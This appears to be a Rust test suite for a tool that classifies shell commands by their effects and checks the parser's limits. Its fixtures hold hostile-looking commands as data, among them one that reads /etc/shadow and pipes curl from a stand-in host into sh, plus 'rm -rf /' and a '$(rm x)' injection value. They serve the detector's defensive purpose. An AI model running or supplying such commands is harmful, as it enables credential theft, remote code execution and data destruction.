use std::collections::BTreeSet;

use super::*;
use crate::command::{Effect, Fact};

fn lines(text: &str) -> impl Iterator<Item = (&str, String)> {
    let lines = text.lines().filter(|line| !line.is_empty() && (!line.starts_with('#') || line.contains("\\n")));
    lines.map(|line| (line, line.rsplit_once(" :: ").map_or(line, |(_, command)| command).replace("\\n", "\n")))
}

fn fails(failures: &[String]) {
    assert!(failures.is_empty(), "{} cases fail:\n{}", failures.len(), failures.join("\n"));
}

const HARMLESS: &str = include_str!("../../../tests/corpus/shell/harmless.txt");
const HOSTILE: &str = include_str!("../../../tests/corpus/shell/hostile.txt");

fn letters(effects: &BTreeSet<Effect>) -> BTreeSet<char> {
    effects.iter().map(|effect| letter(*effect)).collect()
}

fn letter(effect: Effect) -> char {
    match effect {
        Effect::Read => 'R',
        Effect::Write => 'W',
        Effect::Destructive => 'D',
        Effect::Admin => 'A',
        Effect::Execute => 'X',
    }
}

#[test]
fn what_only_reads_is_complete_with_read_alone() {
    let failures: Vec<String> = lines(HARMLESS)
        .filter_map(|(line, command)| {
            let got = inspect(&command);
            let good = got.complete && got.effects == [Effect::Read].into();
            (!good).then(|| format!("{line}\n    {:?} {:?}", got.effects, got.why_incomplete))
        })
        .collect();
    fails(&failures);
    assert!(lines(HARMLESS).count() >= 100);
}

#[test]
fn what_does_more_says_so() {
    let failures: Vec<String> = lines(HOSTILE)
        .filter_map(|(line, command)| {
            let (wanted, rest) = line.split_once(' ').expect("effects");
            let got = inspect(&command);
            let has = letters(&got.effects);
            // What is complete has no effect that is not there, but that it also reads.
            let exact = wanted.chars().chain(['R']).collect::<BTreeSet<char>>().is_superset(&has);
            let complete = match rest.chars().next() {
                Some('=') => got.complete && exact,
                Some('!') => !got.complete && has.contains(&'X'),
                _ => true,
            };
            let good = wanted.chars().all(|effect| has.contains(&effect)) && complete;
            (!good).then(|| format!("{line}\n    {has:?} {:?}", got.why_incomplete))
        })
        .collect();
    fails(&failures);
    assert!(lines(HOSTILE).count() >= 100);
}

fn quoted(command: &str) -> String {
    format!("'{}'", command.replace('\'', r"'\''"))
}

#[test]
fn wrapping_loses_no_effect() {
    let mut failures = Vec::new();
    for (line, command) in lines(HOSTILE).chain(lines(HARMLESS)) {
        let plain = inspect(&command);
        for wrapped in [
            format!("sh -c {}", quoted(&command)),
            format!("env bash -c {}", quoted(&command)),
            format!("eval {}", quoted(&command)),
            format!("sudo sh -c {}", quoted(&command)),
            format!("find . -exec sh -c {} \\;", quoted(&command)),
        ] {
            let got = inspect(&wrapped);
            if !got.effects.is_superset(&plain.effects) || (got.complete && !plain.complete) {
                failures.push(format!("{line}\n    {wrapped}\n    {:?} of {:?}", got.effects, plain.effects));
            }
        }
    }
    fails(&failures);
}

#[test]
fn facts_names_and_actions() {
    let got = inspect("cat /etc/shadow b.txt | sudo /usr/bin/tee /srv/out > /dev/null; curl -s http://x.example | sh");
    assert_eq!(got.reads, ["/etc/shadow", "b.txt"].map(str::to_owned).into());
    assert_eq!(got.writes, ["/srv/out".to_owned()].into());
    let programs = ["cat", "curl", "sh", "sudo", "tee"].map(str::to_owned).to_vec();
    assert_eq!(got.facts["programs"], Fact::List(programs));
    assert_eq!(got.facts["paths"], Fact::List(["/etc/shadow", "/srv/out", "b.txt"].map(str::to_owned).to_vec()));
    for fact in ["pipes_to_shell", "network", "elevated"] {
        assert_eq!(got.facts[fact], Fact::Bool(true), "{fact}");
        assert_eq!(inspect("ls").facts[fact], Fact::Bool(false), "{fact}");
    }
    assert_eq!(got.actions, ["shell.admin", "shell.execute", "shell.read", "shell.write"].map(str::to_owned).into());
    assert_eq!(got.statements, 4);
    assert!(!got.complete);
}

#[test]
fn arguments_are_not_read_by_a_shell() {
    let argv = |words: &[&str]| inspect_argv(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>());
    let got = argv(&["cat", "$(rm x)", ";", "rm", "*"]);
    assert!(got.complete);
    assert_eq!(got.effects, [Effect::Read].into());
    assert_eq!(got.reads.len(), 4);
    assert_eq!(argv(&["sh", "-c", "rm x"]).effects, [Effect::Destructive].into());
    assert!(!argv(&["rm -rf /"]).complete, "one word is one program");
    assert!(!argv(&[]).complete);
    assert!(!argv(&["cat\0"]).complete);
}

#[test]
fn every_bound_is_a_reason() {
    let long = format!("echo {}", "x".repeat(bounds::COMMAND_BYTES));
    let many = "ls;".repeat(1_001);
    let env = format!("{}ls", "env ".repeat(40));
    let evals = format!("{}ls", "eval ".repeat(40));
    let names = format!("cat {}", (0..1_001).map(|n| format!("f{n} ")).collect::<String>());
    for (command, why) in [
        ("", "no command"),
        ("  \n", "no command"),
        ("# only a comment", ""),
        (long.as_str(), "64 KiB"),
        (&many, "1,000 commands"),
        (&env, "nested too deep"),
        (&evals, "nested too deep"),
        (&names, "1,000 names"),
        (&"( ".repeat(50), "nested too deep"),
        (&"{ ".repeat(50), "nested too deep"),
        (&"if ".repeat(500), "nested too deep"),
        (&"case x in x) ".repeat(9), "nested too deep"),
        ("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", "too many words"),
    ] {
        let got = inspect(command);
        assert_eq!(got.complete, why.is_empty(), "{command:.40}: {:?}", got.why_incomplete);
        assert!(got.why_incomplete.unwrap_or_default().contains(why), "{command:.40}");
    }
}

/// Nested as deep as the scan lets through, closed and not, none may take long or end the process.
#[test]
fn the_parser_is_bounded_in_depth_and_time() {
    let start = std::time::Instant::now();
    for (open, close, times) in [
        ("( ", ") ", 12),
        ("((", "))", 6),
        ("(", ")", 12),
        ("$(", ")", 12),
        ("\"$(", ")\"", 12),
        ("$((", "))", 6),
        ("{ ", "; }", 40),
        ("if ls; then ", "; fi", 400),
        ("while ls; do ", "; done", 400),
        ("for x in a; do ", "; done", 400),
        ("for x; do ", "; done", 400),
        ("case a in a) ", ";; esac ", 8),
        ("case a in a) ", " esac ", 8),
        ("f() { ", "; }", 40),
        ("f() ( ", ") ", 12),
        ("function f { ", "; }", 40),
        ("coproc ", "", 400),
        ("! ", "", 400),
        ("[[ ( ", ") ]]", 12),
        ("${a:-", "}", 40),
        ("<(", ")", 12),
        ("a=(", ")", 12),
        ("`", "`", 1_000),
        ("eval ", "", 30),
        ("time ", "", 400),
        ("@(", ")", 12),
        ("$[", "]", 40),
    ] {
        for text in [
            format!("{}ls{}", open.repeat(times), close.repeat(times)),
            open.repeat(times),
            format!("{}ls{}", open.repeat(times), close.repeat(times / 2)),
            format!("{}|;{}", open.repeat(times), close.repeat(times)),
        ] {
            let one = std::time::Instant::now();
            let got = inspect(&text);
            assert!(!got.effects.is_empty());
            assert!(one.elapsed().as_secs() < 10, "{open:?} x {times}: {:?}", one.elapsed());
        }
    }
    assert!(start.elapsed().as_secs() < 60);
}

#[test]
fn every_row_of_the_table_is_reached() {
    let mut seen = BTreeSet::new();
    for row in table::PROGRAMS {
        for name in row.names.split_ascii_whitespace() {
            assert!(seen.insert(name), "{name} has two rows");
        }
    }
    for tool in table::TOOLS {
        for name in tool.names.split_ascii_whitespace() {
            assert!(seen.insert(name), "{name} has two rows");
        }
        let mut patterns = BTreeSet::new();
        for pattern in tool.commands.iter().flat_map(|row| row.names.split('|')) {
            assert!(patterns.insert(pattern.trim()), "{} {pattern} has two rows", tool.names);
            assert!(!pattern.trim().contains("  "), "{pattern}");
        }
    }
}

#[test]
fn a_here_document_without_a_delimiter_is_refused_before_the_parser_takes_memory_without_end() {
    for text in ["c-$(x << <<EOwk ", "cat <<'' ", "sh -c \"cat <<'' \"", "cat <<\"\" # y", "x $(cat <<  EOF"] {
        let command = inspect(text);
        assert!(!command.complete, "{text}: {command:?}");
    }
}
